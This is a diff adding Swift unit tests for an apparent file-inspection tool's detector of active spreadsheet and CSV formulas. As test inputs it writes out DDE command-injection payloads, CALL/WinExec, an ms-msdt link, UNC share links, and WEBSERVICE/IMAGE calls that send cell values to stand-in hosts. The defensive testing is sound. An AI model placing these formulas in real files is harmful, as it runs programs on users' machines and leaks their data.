@@ -1,0 +1,45 @@
+@testable import Inspection
+import Testing
+
+/// Spreadsheet formulas that fetch, run or link out: one rule set for xlsx cells and CSV or text cells.
+struct FormulaTests {
+    @Test(arguments: [
+        "cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "SUM(1)+cmd|'/c notepad'!B2",
+        "_xlfn.IMAGE(\"https://tracker.example/p.png\")", "webservice(\"http://x.example/?\"&A1)", "RTD(\"x.y\",,\"z\")", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+        "REGISTER.ID(\"a\",\"b\")", "DDE(\"cmd\";\"/c calc\";\"x\")", "HYPERLINK(\"\\\\host\\share\\doc.lnk\",\"open\")", "HYPERLINK(\"file:///C:/x.exe\")",
+        "HYPERLINK(\"ms-msdt:/id PCWDiagnostic\")", "HYPERLINK(A1,\"x\")", "'\\\\host\\share\\[x.xlsx]Sheet1'!A1", "[book.xlsx]Sheet1!A1", "[1]Sheet1!A1",
+        "SUM('C:\\data\\[a.xlsx]S'!A1:A3)", "cmd|' /C calc'", "Excel|Book1!R1C1", "'https://h.example/[x.xlsx]S'!A1",
+    ])
+    func activeFormulasAreFound(_ formula: String) {
+        #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
+    }
+
+    @Test(arguments: [
+        "SUM(A1:A2)", "'My Sheet'!A1+'It''s'!B2", "Table1[[#This Row],[Amount]]*2", "SUM(Table1[Amount])", "HYPERLINK(\"https://example.com\",\"x\")",
+        "HYPERLINK(\"#Sheet2!A1\")", "HYPERLINK(\"mailto:a@example.com\")", "\"IMAGE(\"&A1", "CONCAT(\"a|b\",\"!\")", "MYIMAGE(1)+CALLS", "IF(A1>0,\"|\",\"!\")",
+    ])
+    func ordinaryFormulasAreClean(_ formula: String) {
+        #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula) -> \(OOXMLParts.formulaProblem(formula) ?? "")")
+    }
+
+    @Test func csvCellsAreJudgedAsFormulas() {
+        for csv in [
+            "a,b\n1,=cmd|' /C calc'!A0\n", "a;b\n1;\"=HYPERLINK(\"\"\\\\evil\\s\\x\"\",\"\"go\"\")\"\n", "a\t b\n x\t @SUM(1)*cmd|'/c calc'!A1\n",
+            "x, +WEBSERVICE(\"http://e.example/\"&A1)\n", "x,-_xlfn.IMAGE(\"http://e.example/t.png\")\n", "x,\"  =[evil.xlsx]S!A1\"\n",
+            "n,\"multi\nline\",=RTD(\"a\",,\"b\")\n",
+        ] {
+            #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
+            // CSV often arrives as .txt: read the same way.
+            #expect(!TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv)")
+        }
+        for csv in ["id,f\n1,=SUM(A1:A2)\n2,-5\n3,+1\n4,@home\n", "x,\"=A1&\"\"|\"\"&B1\"\n", "a,b\n=====,=====\n"] {
+            #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
+        }
+        // Prose bullets and mentions are not formulas unless a call starts them.
+        for text in ["- call(x) now retries\n- image(s) are cached | see notes!\n", "@see call(x)\n", "+ added IMAGE(...) support\n"] {
+            #expect(TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text) -> \(TextActiveContent.findings(in: Array(text.utf8)))")
+        }
+        #expect(!TextActiveContent.findings(in: Array("- cmd|' /C calc'!A0\n".utf8)).isEmpty)
+        #expect(!TextActiveContent.findings(in: Array("@x | 'calc'\n".utf8)).isEmpty)
+    }
+}
